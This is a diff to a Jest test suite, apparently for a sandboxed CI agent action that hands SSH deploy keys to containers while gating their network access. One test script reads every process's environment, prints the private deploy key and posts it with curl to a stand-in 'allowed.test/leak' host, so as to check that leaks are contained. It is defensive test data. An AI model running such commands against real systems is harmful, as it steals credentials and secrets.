@@ -4,6 +4,7 @@ import { join, resolve } from 'node:path'
 import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals'
 import Docker from 'dockerode'
 import { bareAgentImage } from '../support/bare-agent.ts'
+import { engineProxy } from '../support/engine/proxy.ts'
 import { presentGates } from '../support/gates.ts'
 import { agentImage, type Hit, type Internet, openInternet } from '../support/hosts/internet.ts'
 import { leftovers } from '../support/leftovers.ts'
@@ -161,7 +162,7 @@ describe.each(gates)('ssh with the gate $name', ({ name, inputs }) => {
         ...inputs,
         spec: specOf(keys.host),
         run: `stat -c '%a %U %n' ~/.ssh ~/.ssh/*; sha256sum ~/.ssh/DEPLOY_KEY; df --output=fstype ~ | tail -1
-          echo up; cat /proc/*/environ | tr '\\0' '\\n' | grep -c DEPLOY_KEY; cat ~/.ssh/DEPLOY_KEY
+          echo up; cat /proc/*/environ | tr '\\0' '\\n' | grep -c DEPLOY_KEY || true; cat ~/.ssh/DEPLOY_KEY
           curl -sS --data-binary @$HOME/.ssh/DEPLOY_KEY http://allowed.test/leak
           until test -e looked; do sleep 0.1; done`,
       },
@@ -247,17 +248,33 @@ describe('the program before the agent leaves no trace', () => {
     return { runner, step, main, log: main.log.join('\n'), [Symbol.asyncDispose]: () => runner[Symbol.asyncDispose]() }
   }
 
-  test('process id, arguments, signals, open files, limits and environment are as without it', async () => {
-    const script = `echo "pid $$ of $PPID"; tr '\\0' ' ' </proc/$$/cmdline; echo; grep ^Sig /proc/$$/status | grep -v SigQ
+  test('parent, arguments, signals, open files, limits and environment are as without it', async () => {
+    const script = `echo "child of $PPID"; tr '\\0' ' ' </proc/$$/cmdline; echo; grep -E '^Sig(Blk|Ign)' /proc/self/status
       readlink /proc/$$/fd/0; for fd in /proc/$$/fd/*; do echo "\${fd##*/}"; done; ulimit -Sn
       env | sort | grep -v -e ^HOSTNAME -e _proxy= -i -e PROXY -e JAVA -e RUN; exit 7`
     const env = '\nenv: {NODE_OPTIONS: "--no-such-flag", LD_LIBRARY_PATH: /nowhere}\n'
     await using plain = await run(script, `egress: {}${env}`, { shell: 'bash' })
     await using guarded = await run(script, `${withSsh}${env}`, { shell: 'bash' })
     expect(plain.log).toContain('NODE_OPTIONS=--no-such-flag')
-    const told = ({ log }: { log: string }) => log.slice(log.indexOf('pid '), log.indexOf('::***::'))
+    const told = ({ log }: { log: string }) => log.slice(log.indexOf('child of 1'), log.indexOf('::***::'))
     expect(told(guarded)).toBe(told(plain))
     expect([plain.main.exitCode, guarded.main.exitCode]).toEqual([7, 7])
+  })
+
+  test("the key is in no call to the engine but the stream to the bottle and the gate's own file", async () => {
+    await using proxy = await engineProxy()
+    await using runner = await startRunner(project, { env: { DOCKER_HOST: proxy.host } })
+    const step = runner.step({
+      with: { ...gate, spec: specOf(keys.host), run: 'sha256sum ~/.ssh/DEPLOY_KEY' },
+      env: { DEPLOY_KEY: keys.client },
+    })
+    const main = await step.main()
+    expect(main.log.join('\n')).toContain(createHash('sha256').update(`${keys.client}\n`).digest('hex'))
+    expect(proxy.calls.some(call => call.path.includes('stdin=true'))).toBe(true)
+    expect(
+      proxy.calls.filter(call => holdsKey(`${decodeURIComponent(call.path)} ${JSON.stringify(call.body)}`)),
+    ).toEqual([])
+    expect(await leftovers(main.outputs['bottle-id'])).toEqual([])
   })
 
   test('a shell that the image lacks is said, and the exit code is the usual one', async () => {
